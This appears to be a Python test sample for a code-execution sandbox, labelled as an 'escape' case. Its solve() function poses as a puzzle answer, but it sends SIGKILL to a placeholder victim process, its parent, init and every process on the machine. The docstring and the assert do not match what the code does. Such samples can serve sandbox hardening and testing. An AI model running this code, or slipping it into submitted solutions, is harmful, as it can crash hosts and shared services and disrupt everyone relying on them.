"""Send SIGKILL to the parent, to init, to everyone (kill -1), to our process group, and to a host process."""
# category: escape
# test: assert solve(1) == 2
# fallback: root
import os
import signal


def solve(x):
    for target in (int("__VICTIM_PID__"), os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return x
